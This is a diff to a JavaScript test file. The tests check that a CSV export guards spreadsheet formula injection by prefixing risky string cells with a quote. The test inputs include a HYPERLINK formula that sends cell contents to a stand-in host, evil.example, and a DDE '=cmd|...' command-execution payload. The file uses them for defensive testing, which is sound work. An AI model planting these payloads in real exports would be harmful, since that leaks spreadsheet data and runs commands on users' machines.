@@ -2,7 +2,7 @@
 
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { buildExport } from '../../web/js/export.js';
+import { buildExport, csvCell } from '../../web/js/export.js';
 import { Series } from '../../web/js/store.js';
 import { parseCSV } from './csv.mjs';
 
@@ -64,9 +64,8 @@ test('CSV: negative numbers stay numbers', () => {
 
 // SPEC §7: "CSV exports quote cells that a spreadsheet would run as
 // formulas" (SECURITY.md F6 and S7.4: a string cell starting with =, +, -,
-// @, TAB or CR gets a leading '). csvCell does not do this yet: a todo that
-// reports the gap until it is fixed (then drop the todo).
-test('CSV: text a spreadsheet would run as a formula is neutralised', { todo: 'SPEC §7 / SECURITY.md F6: not implemented in export.js csvCell' }, () => {
+// @, TAB or CR gets a leading '; numbers stay numbers).
+test('CSV: text a spreadsheet would run as a formula is neutralised', () => {
   const sr = new Series('ops.feed');
   const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-1+2', '@SUM(A1)', '\tx', '\rx'];
   texts.forEach((text, i) => sr.add({ ts: i + 1, seq: i + 1, level: 'info', text }));
@@ -75,6 +74,33 @@ test('CSV: text a spreadsheet would run as a formula is neutralised', { todo: 'S
   const fields = new Series('web.lat');
   fields.add({ ts: 1, seq: 1, fields: { "=cmd|'/c calc'!A0": 1 } });
   assert.equal(parseCSV(buildExport(fields, 'csv').text)[0][3], "'=cmd|'/c calc'!A0");
+});
+
+test('CSV formula rule: every string cell, never a number', () => {
+  // A string field value, a level, a field name: strings, so guarded.
+  const sr = new Series('t');
+  sr.add({ ts: 1, seq: 1, fields: { '+f': -3.5, '-g': 0, '@h': -1e-7, plain: 2 } });
+  sr.points[0].fields.plain = '-2+3'; // a string value (the store keeps what came)
+  const rows = parseCSV(buildExport(sr, 'csv').text);
+  assert.deepEqual(rows[0].slice(3), ["'+f", "'-g", "'@h", 'plain']);
+  assert.deepEqual(rows[1].slice(3), ['-3.5', '0', '-1e-7', "'-2+3"], 'numbers stay numbers, -3.5 included');
+  const ev = new Series('e');
+  ev.add({ ts: 1, seq: 1, level: 'info', text: 'fine = ok' });
+  ev.points[0].level = '=1'; // (the hub allows four levels; the rule does not rely on it)
+  const er = parseCSV(buildExport(ev, 'csv').text)[1];
+  assert.equal(er[3], "'=1", 'a level cell is guarded too');
+  assert.equal(er[4], 'fine = ok', 'only the first character counts');
+  assert.match(er[0], /^\d{4}-/, 'the time column is plain');
+});
+
+test('csvCell: quoting after the guard; null and non-finite are empty', () => {
+  assert.equal(csvCell('=a,b'), '"\'=a,b"');
+  assert.equal(csvCell('-"x"'), '"\'-""x"""');
+  assert.equal(csvCell(-3.5), '-3.5');
+  assert.equal(csvCell(null), '');
+  assert.equal(csvCell(NaN), '');
+  assert.equal(csvCell('a'), 'a');
+  assert.equal(csvCell(' =x'), ' =x', 'a leading space is not a formula start in the rule');
 });
 
 test('JSON of samples: topic, title, unit, field labels and units, points', () => {
